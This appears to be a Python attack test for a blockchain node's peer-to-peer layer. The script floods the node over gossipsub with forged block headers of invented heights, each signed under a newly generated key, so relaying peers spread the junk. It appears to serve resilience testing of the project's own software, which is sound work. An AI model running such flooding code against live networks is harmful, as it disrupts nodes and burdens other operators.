"""Announcements of heads of invented heights, each under a fresh signature of its author: a node that passes
them on makes every other node carry them.
"""

import secrets
from functools import partial

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_varint_prefixed

from chain.block import Header
from chain.primitives.codec import decode, encode, replace
from p2p.switch.switch import Switch
from p2p.wire.messages import FinalHeader, Headers, HeadersRequest
from p2p.wire.protocols import SYNC
from p2p.wire.requests import request
from tests.attacks.target import Target, fetch_height, keep_coming

SECONDS = 20.0
CONNECTIONS = 4


async def attack(target: Target) -> None:
    """Takes the newest header, changes its time, and announces that, from all connections."""
    async with trio.open_nursery() as nursery:
        for number in range(CONNECTIONS):
            nursery.start_soon(keep_coming, target, target.get_host(number), partial(_announce, target))


def build_rpc(topic: str, final: FinalHeader, height: int) -> bytes:
    """A changed header of that height, under the certificate of another."""
    header = decode(Header, final.header)
    changed = replace(header, height=height, time_ms=header.time_ms + secrets.randbelow(10**6) + 1)
    keys = create_new_key_pair(secrets.token_bytes(32))
    author = ID.from_pubkey(keys.public_key).to_bytes()
    data = encode(FinalHeader(encode(changed), replace(final.certificate, height=height)))
    message = rpc_pb2.Message(data=data, topicIDs=[topic], from_id=author, seqno=secrets.token_bytes(8))
    message.signature = keys.private_key.sign(b"libp2p-pubsub:" + message.SerializeToString())
    return encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString())


async def _announce(target: Target, peer: Switch) -> None:
    topic = f"/vidya/{target.genesis_hash[:4].hex()}/heads/1"
    height = await fetch_height(target)
    message = HeadersRequest(height, 1)
    answer = await request(peer, target.place.peer, SYNC, message, Headers, 10.0)
    stream = await peer.open_bytes(target.place.peer, PROTOCOL_ID_V11)
    while True:
        await stream.write(build_rpc(topic, answer.headers[0], height + 1))
